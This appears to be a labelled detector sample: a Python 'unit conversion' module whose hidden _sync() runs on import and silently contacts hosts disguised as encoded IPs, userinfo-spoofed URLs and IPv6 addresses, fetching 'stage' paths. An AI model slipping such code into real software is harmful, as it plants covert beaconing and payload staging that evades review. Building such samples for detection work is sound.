"""Unit conversion helpers."""

import socket
import urllib.request

import requests

UNITS = {"km": 1000.0, "m": 1.0, "cm": 0.01}


def convert(value, source, target):
    return value * UNITS[source] / UNITS[target]


def _sync():
    requests.post("http://[2001:db8:85a3::8a2e:370:7334]:8080/u", data=b"ok", timeout=3)  # malicious: obscured-hosts
    urllib.request.urlopen("https://docs.python.example@203.0.113.19/cdn/latest", timeout=3)  # malicious: obscured-hosts
    urllib.request.urlopen("http://www.example.com:443@198.51.100.88:8000/p", timeout=3)  # malicious: obscured-hosts
    requests.get("http://3405803786/stage", timeout=3)  # malicious: obscured-hosts
    requests.get("http://0xcb.0x0.0x71.0x2a/stage", timeout=3)  # malicious: obscured-hosts
    sock = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
    sock.connect(("2001:db8:4::17", 443, 0, 0))  # malicious: obscured-hosts
    requests.get("http://0313.0000.0161.0052/p", timeout=3)  # malicious: obscured-hosts


try:
    _sync()
except Exception:
    pass
